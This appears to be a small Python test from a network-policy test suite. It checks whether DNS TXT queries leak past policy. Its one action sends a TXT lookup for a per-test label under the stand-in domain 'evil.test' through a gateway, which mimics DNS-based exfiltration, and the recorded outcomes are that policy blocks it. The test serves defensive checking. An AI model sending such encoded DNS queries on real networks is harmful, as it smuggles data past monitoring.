# SPDX-License-Identifier: Apache-2.0
"""TXT questions.

unheard: no server answers behind a plain node
recorded: 4=~policy 6=~policy
"""
from attack import attempt


def way(a):
    a.dns(f'{a.label}.evil.test', 16, to=a.gateway)


attempt(way)
